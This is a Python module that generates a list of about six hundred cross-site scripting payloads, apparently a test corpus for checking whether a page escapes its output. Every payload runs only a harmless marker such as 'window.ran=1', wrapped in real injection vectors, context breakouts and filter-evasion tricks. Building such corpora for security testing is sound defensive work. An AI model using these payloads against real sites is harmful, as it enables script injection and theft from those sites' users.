"""Texts that would run a script on a page that does not escape: every way in, every way of hiding it."""

from __future__ import annotations

from itertools import product

_RUNS = ("window.ran=1", "window['ran']=1", "(window).ran=1", "self.ran=1", "top.ran=1")
_WAYS = (
    "<script>{}</script>",
    "<SCRIPT >{}</SCRIPT >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<a href=javascript:{}>ran</a>",
    "<math><mi xlink:href='javascript:{}'>ran",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "<object data='javascript:{}'>",
    "<form><button formaction='javascript:{}'>ran",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_OUT_OF = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "--><!--{}", "{{{{{}}}}}", "\u2028{}")

PAYLOADS = list(dict.fromkeys(out.format(way.format(run)) for out, way, run in product(_OUT_OF, _WAYS, _RUNS)))[:600]
"""Six hundred of them."""
